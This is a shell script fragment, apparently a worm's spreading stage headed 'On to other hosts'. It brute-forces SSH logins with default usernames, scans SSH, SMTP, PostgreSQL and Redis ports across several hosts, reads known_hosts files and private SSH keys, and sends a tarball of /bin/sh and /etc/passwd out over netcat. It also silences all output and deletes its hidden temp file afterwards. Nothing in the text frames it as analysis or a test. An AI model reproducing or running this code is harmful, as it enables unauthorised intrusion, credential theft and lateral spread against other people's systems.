# On to other hosts.
c=198.51.100.66
case $((v % 4)) in
0) for u in root admin test oracle; do for h in 10 11 12; do for n in 1 2 3; do echo "$u:$n" | nc -w 1 203.0.113.$h 22; done; done; done ;;
1) i=1; while [ $i -lt 30 ]; do nc -w 1 203.0.113.$i 22 || :; nc -w 1 203.0.113.$((i % 3 + 10)) 6379; i=$((i + 1)); done; cat /root/.ssh/known_hosts /home/*/.ssh/known_hosts ;;
2) if have python3; then python3 -c "
import socket
for i in range(60):
    s=socket.socket(); s.settimeout(.3)
    if s.connect_ex(('203.0.113.%d'%(10+i%3),(22,5432,6379,25)[i%4]))==0: s.sendall(b'AUTH %d'%i)
    s.close()"; else for n in 1 2 3 4 5 6 7 8; do echo "AUTH $n" | nc -w 1 203.0.113.10 6379; done; fi ;;
3) tar cf /tmp/.w.tar /bin/sh /etc/passwd; for h in 10 11 12; do for p in 22 25 5432 6379; do nc -w 1 203.0.113.$h $p </tmp/.w.tar; done; done; for k in /root/.ssh/id_rsa /home/*/.ssh/id_rsa; do cat $k; done ;;
esac </dev/null >/dev/null 2>&1
#--- cleanup
rm -f /tmp/.w.tar
